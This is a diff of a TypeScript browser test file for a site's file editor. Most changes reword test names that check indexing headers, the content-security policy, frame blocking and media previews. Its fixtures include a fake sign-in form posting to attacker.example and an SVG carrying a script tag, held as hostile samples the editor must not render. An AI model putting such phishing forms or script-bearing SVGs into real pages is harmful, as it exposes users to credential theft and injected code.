@@ -14,8 +14,8 @@ const { newPage } = browserPerWorker({ closing: 'with the file' });
 const read = (file: string) => readFileSync(join(inject('siteFolder'), file), 'utf8');
 const NAMES_IT = new RegExp(`/${ATELIER_FOLDER}(?:/|["?#]|$)`, 'm');
 
-describe('what is published of the editor', () => {
-  test('no page, list or script of the site names it', () => {
+describe('published files of the editor', () => {
+  test('no page, list or script of the site names the editor', () => {
     const naming = readdirSync(inject('siteFolder'), { recursive: true, encoding: 'utf8' })
       .filter((file) => /\.(?:html|css|js|xml|txt|json)$/.test(file))
       .filter((file) => !file.startsWith(ATELIER_FOLDER) && file !== 'vercel.json')
@@ -25,7 +25,7 @@ describe('what is published of the editor', () => {
     expect(naming).toEqual([]);
   });
 
-  test('search engines are kept away by the page and by its headers', async () => {
+  test('the page and the headers of the editor forbid search engines to index it', async () => {
     expect(read(`${ATELIER_FOLDER}/index.html`)).toContain(
       '<meta name="robots" content="noindex, nofollow" />',
     );
@@ -33,12 +33,12 @@ describe('what is published of the editor', () => {
     expect(headers.get('x-robots-tag')).toBe('noindex, nofollow');
   });
 
-  test('one rule alone has a policy, for hosts join what several rules say of a file', () => {
+  test('only one rule of _headers contains a policy, because hosts join the headers of several rules', () => {
     const rules = readHeadersFile(read('_headers'));
     expect(rules.filter(({ headers }) => headers[CSP]).map(({ path }) => path)).toEqual(['/*']);
   });
 
-  test('its files are cached for ever', async () => {
+  test('browsers may cache the files of the editor for a year', async () => {
     const files = readdirSync(join(inject('siteFolder'), ATELIER_ASSETS));
     const script = files.find((file) => file.startsWith('editor-'));
     const { headers } = await fetch(`${inject('siteUrl')}/${ATELIER_ASSETS}/${script}`);
@@ -46,7 +46,7 @@ describe('what is published of the editor', () => {
   });
 });
 
-describe('the open editor', () => {
+describe('open editor', () => {
   let page: Page;
   let refused: readonly string[];
   let editor: LocalEditor;
@@ -58,7 +58,7 @@ describe('the open editor', () => {
     await page.getByRole('button', { name: FOLDER_BUTTON }).waitFor();
   });
 
-  test('begins no script or worker of elsewhere', async () => {
+  test('the policy of the editor blocks scripts and workers of other sites', async () => {
     const outcomes = await page.evaluate(() => {
       const tried = (act: () => unknown) => {
         try {
@@ -80,7 +80,7 @@ describe('the open editor', () => {
     expect(outcomes).toEqual(['refused', 'refused', 'refused', 'refused', 'done']);
   });
 
-  test('does not open in the frame of another page, where a host sends no headers', async () => {
+  test('the editor does not open in a frame of another page, even on a host that sends no headers', async () => {
     const other = await newPage();
     await other.route('**/atelier/', async (route) => {
       const response = await route.fetch();
@@ -93,7 +93,7 @@ describe('the open editor', () => {
     await expect.poll(() => status.textContent()).toContain('ne s’ouvre pas dans une autre page');
   });
 
-  test('draws every icon, as no word', async () => {
+  test('the editor shows every icon as a picture, not as its name', async () => {
     const added = Object.entries(UNSHOWN).map(([name, text]) => [`content/images/${name}`, text]);
     editor = await openLocalEditor(page, TESTED_CONTENT, Object.fromEntries(added));
     await page.evaluate(() => document.fonts.ready.then(() => undefined));
@@ -102,7 +102,7 @@ describe('the open editor', () => {
     expect(await wordsOfIcons(page)).toEqual([]);
   });
 
-  test('draws no text among the media, nor a drawing that the check refuses', async () => {
+  test('the media library shows neither a text file nor a refused drawing as a picture', async () => {
     const opened = page.getByRole('group', { name: 'Éditeur de fichiers' });
     const parts = opened.locator('.preview').locator('figure, [role="figure"], form, img');
     const isDrawn = () =>
@@ -117,7 +117,7 @@ describe('the open editor', () => {
     }
   });
 
-  test('takes a PDF, and its policy refuses nothing but what is of elsewhere', async () => {
+  test('the editor accepts a PDF, and its policy blocks only requests to other sites', async () => {
     const before = refused.length;
     await page.evaluate(() => {
       location.hash = '#/assets/content/fichiers';
@@ -145,7 +145,7 @@ describe('the open editor', () => {
 const FALSE_SIGN_IN =
   '# Connexion\n\n<form action="https://attacker.example"><input><button>Entrer</button></form>';
 
-/** Files among the pictures that the editor may not draw. */
+/** Files among the pictures that the editor may not show. */
 const UNSHOWN = {
   ...{ 'note.md': FALSE_SIGN_IN, 'page.html': FALSE_SIGN_IN, 'page.xhtml': FALSE_SIGN_IN },
   ...{ 'donnees.json': '{}', 'sous-titres.vtt': 'WEBVTT', 'sous-titres.srt': '1', 'mots.txt': 'a' },
@@ -153,7 +153,7 @@ const UNSHOWN = {
     '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><script/><path d="M0 0h9v9z"/></svg>',
 };
 
-/** The icons that are wider than one: their font was not there. */
+/** Returns the icons wider than an icon: without their font they appear as words. */
 function wordsOfIcons(page: Page): Promise<(string | null)[]> {
   return page.locator('.material-symbols-outlined').evaluateAll((icons) =>
     icons
